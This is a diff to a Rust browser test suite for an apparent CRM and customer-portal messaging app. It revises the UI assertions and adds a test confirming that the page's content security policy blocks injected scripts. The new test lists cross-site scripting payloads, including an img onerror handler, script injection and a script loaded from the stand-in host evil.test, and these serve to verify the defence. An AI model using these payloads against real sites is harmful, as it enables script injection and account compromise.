@@ -180,24 +180,28 @@ impl Stage {
         let crm = &self.crm;
         crm.0.until(&format!("$({})", json!(row(thread)))).await;
         says(crm, &row(thread), name).await;
-        crm.0.click(&row(thread)).await;
+        // Not by a finger: the list moves while it is filled.
+        crm.0.eval(&format!("$({}).click()", json!(row(thread)))).await;
         crm.0.until(&bubble(payload)).await;
         says(crm, "crewline-contact-header", name).await;
         for tab in [crm, &self.portal] {
-            tab.0.until(&bubble(payload)).await;
-            says(tab, r#"[data-testid="message"]"#, name).await;
-            for part in ["transcript", "handoff", "marker"] {
-                says(
-                    tab,
-                    &format!(r#"[data-testid="{part}"]"#),
-                    if part == "marker" { name } else { payload },
-                )
+            // Rows far from the view are folded, and what was said on the phone until somebody opens it.
+            let here = bubble(payload);
+            tab.0
+                .until(&format!("($('[data-testid=thread]').scrollTop = 1e9, {here})"))
                 .await;
-            }
+            says(tab, r#"[data-testid="message"]"#, name).await;
+            says(tab, r#"[data-testid="marker"]"#, name).await;
+            let unfold = |open: bool| {
+                format!("$$('[data-testid=transcript]').map((one) => {{ one.open = {open}; }}).length > 0")
+            };
+            tab.0.until(&unfold(true)).await;
+            says(tab, r#"[data-testid="handoff"]"#, payload).await;
+            tab.0.until(&unfold(false)).await;
         }
         says(crm, r#"[data-testid="note"]"#, payload).await;
-        says(&self.phones, "crewline-phone", name).await;
-        says(&self.phones, "crewline-phone", payload).await;
+        says(&self.phones, r#"[data-testid="owner"]"#, name).await;
+        says(&self.phones, r#"[data-testid="texts"]"#, payload).await;
     }
 }
 
@@ -310,4 +314,28 @@ async fn choose_files(tab: &Tab, payloads: &[String]) {
             .await;
         tab.0.until(&format!("{failed} === 0")).await;
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_would_be_markup_all_the_same_the_policy_stops() {
+    let demo = Demo::start().await;
+    let portal = Tab(guarded(&demo.browser, &demo.customer("ana").page).await);
+    portal.live().await;
+    for attempt in [
+        r#"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned=1">')"#,
+        r#"document.body.append(Object.assign(document.createElement('script'), {text: 'window.pwned=1'}))"#,
+        r#"document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.test/x.js'}))"#,
+        r#"document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.test/x.png'}))"#,
+        r#"(document.body.setAttribute('onclick', 'window.pwned=1'), document.body.click())"#,
+        r#"setTimeout('window.pwned=1')"#,
+        r#"import('data:text/javascript,window.pwned=1').catch(() => 0)"#,
+    ] {
+        let before = portal.0.eval("violations.length").await.as_u64().unwrap();
+        portal
+            .0
+            .eval(&format!("(async () => {attempt})().catch(() => 'refused')"))
+            .await;
+        portal.0.until(&format!("violations.length > {before}")).await;
+    }
+    assert_eq!(portal.0.eval("window.pwned ?? null").await, Value::Null);
 }
